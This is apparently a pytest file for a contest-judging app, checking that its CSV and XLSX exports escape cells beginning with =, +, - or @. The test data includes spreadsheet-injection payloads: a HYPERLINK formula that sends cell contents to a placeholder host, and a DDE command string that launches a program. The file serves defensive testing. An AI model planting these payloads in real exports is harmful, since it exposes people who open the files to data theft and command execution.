"""Exports neutralise formula injection: cells starting with = + - @ are written as text."""

from __future__ import annotations

import csv
import io

from integrity_support import contest_toml
from judge_app.domain.contest_file import parse_contest
from judge_app.services.contest.contest_setup import create_contest
from judge_app.services.results.result_formats import as_csv
from judge_app.services.results.standings import round_report
from judge_app.store.database import open_database
from judge_app.table_files.xlsx_writer import neutralise_formula

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_the_helper():
    for cell in HOSTILE:
        assert neutralise_formula(cell) == "'" + cell
    for cell in ["普通标题", "E01", "-3.5", "+12", "77.00", "", "a=b", 5, None]:
        assert neutralise_formula(cell) == cell


def test_csv_ranking_writes_hostile_titles_and_units_as_text(tmp_path):
    toml = contest_toml(entries=4).replace('title = "作品1"', 'title = "=HYPERLINK(1)"')
    toml = toml.replace('title = "作品2"', 'title = "@SUM(A1:A9)"\nunit = "+1+cmd"')
    toml = toml.replace('title = "作品3"', 'title = "-2+3"')
    db = open_database(str(tmp_path / "f.sqlite"))
    try:
        create_contest(db, parse_contest(toml), "t")
        out = as_csv(round_report(db, "final"))
    finally:
        db.close()
    rows = list(csv.DictReader(io.StringIO(out)))
    titles = {r["code"]: r["title"] for r in rows}
    assert titles["E0001"] == "'=HYPERLINK(1)"
    assert titles["E0002"] == "'@SUM(A1:A9)" and rows[[r["code"] for r in rows].index("E0002")]["unit"] == "'+1+cmd"
    assert titles["E0003"] == "'-2+3"
    assert titles["E0004"] == "作品4"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@")), cell


def test_neutralised_cells_stay_text_in_xlsx(tmp_path):
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    book.active.append([neutralise_formula(c) for c in HOSTILE])
    book.save(tmp_path / "x.xlsx")
    cells = list(load_workbook(tmp_path / "x.xlsx").active.iter_rows(values_only=False))[0]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    unsafe = Workbook()
    unsafe.active.append([HOSTILE[0]])
    unsafe.save(tmp_path / "u.xlsx")
    assert load_workbook(tmp_path / "u.xlsx").active["A1"].data_type == "f"  # what the helper prevents
